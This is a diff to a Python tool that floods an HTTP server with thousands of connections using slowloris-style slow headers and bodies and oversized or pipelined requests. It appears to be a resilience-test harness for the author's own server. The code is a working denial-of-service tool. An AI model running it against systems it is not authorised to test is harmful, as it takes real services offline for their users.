@@ -4,11 +4,15 @@
 
 Most connections send a request byte by byte. The rest floods: trailers, headers, large bodies, pipelined requests
 without a reader, and streams whose client has closed its half of the connection.
+
+The process runs at the lowest priority (nice 19), because a real attacker has its own machine and does not take the
+server's cores. It attacks at full speed only while cores are idle.
 """
 
 import argparse
 import asyncio
 import contextlib
+import functools
 import itertools
 import json
 import logging
@@ -16,7 +20,7 @@ import os
 import resource
 import sys
 import threading
-from collections.abc import Awaitable, Callable
+from collections.abc import Awaitable, Callable, Collection
 from typing import Final
 from urllib.parse import urlsplit
 
@@ -41,6 +45,7 @@ def filled(head: bytes, item: bytes, tail: bytes) -> bytes:
     return head + b",".join([item] * (LARGE // (len(item) + 1))) + tail
 
 
+@functools.cache
 def large_bodies() -> list[bytes]:
     members = b",".join(b'"%d":1' % number for number in range(2_000_000))
     return [
@@ -71,7 +76,7 @@ async def headers(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) ->
 
 
 async def large(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-    for body in itertools.cycle(BODIES):
+    for body in itertools.cycle(large_bodies()):
         writer.write(sized(body))
         await writer.drain()
         head = await reader.readuntil(b"\r\n\r\n")
@@ -99,6 +104,7 @@ async def slow_head(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) 
     writer.write(HEAD + b"x: " + b"y" * 20_000)
     while True:
         writer.write(b"y")
+        await writer.drain()  # raises when the server has closed the connection
         await asyncio.sleep(SLOW_SECONDS)
 
 
@@ -106,6 +112,7 @@ async def slow_body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) 
     writer.write(HEAD + b"Content-Length: %d\r\n\r\n" % LARGE + b'{"prompt":"' + b"x" * 60_000)
     while True:
         writer.write(b"x")
+        await writer.drain()
         await asyncio.sleep(SLOW_SECONDS)
 
 
@@ -124,7 +131,7 @@ FLOODS: Final[list[tuple[Attack, int]]] = [
 """With the number of connections of each."""
 SLOW: Final[tuple[Attack, ...]] = (slow_head, slow_body, silent)
 """Take the rest of the connections in turn."""
-BODIES: Final = large_bodies()
+KINDS: Final = tuple(attack.__name__ for attack in (*(flood for flood, _ in FLOODS), *SLOW))
 
 
 async def repeat(host: str, port: int, attack: Attack) -> None:
@@ -139,12 +146,14 @@ async def repeat(host: str, port: int, attack: Attack) -> None:
         await asyncio.sleep(0.05)
 
 
-async def run(url: str, connections: int) -> None:
+async def run(url: str, connections: int, kinds: Collection[str]) -> None:
+    """Attack until the process ends. `kinds`: the names of the attacks to run."""
     parts = urlsplit(url)
     assert parts.hostname is not None
     assert parts.port is not None
-    attacks = [attack for attack, count in FLOODS for _ in range(count)][:connections]
-    attacks += itertools.islice(itertools.cycle(SLOW), connections - len(attacks))
+    attacks = [attack for attack, count in FLOODS if attack.__name__ in kinds for _ in range(count)][:connections]
+    if slow := [attack for attack in SLOW if attack.__name__ in kinds]:
+        attacks += itertools.islice(itertools.cycle(slow), connections - len(attacks))
     async with asyncio.TaskGroup() as group:
         for number, attack in enumerate(attacks):
             group.create_task(repeat(parts.hostname, parts.port, attack))
@@ -161,16 +170,18 @@ def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("url")
     parser.add_argument("--connections", type=int, default=5000, metavar="N")
+    parser.add_argument("--kinds", nargs="+", choices=KINDS, default=KINDS, metavar="KIND", help=", ".join(KINDS))
     parser.add_argument(
         "--until-stdin-ends", action="store_true", help="end with the process that started this one"
     )
     args = parser.parse_args()
     if args.until_stdin_ends:
         threading.Thread(target=_end_with_stdin, daemon=True).start()
+    os.nice(19)
     _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
     logging.getLogger("asyncio").setLevel(logging.CRITICAL)  # the server closes connections that are written to
-    asyncio.run(run(args.url, args.connections))
+    asyncio.run(run(args.url, args.connections, args.kinds))
 
 
 if __name__ == "__main__":
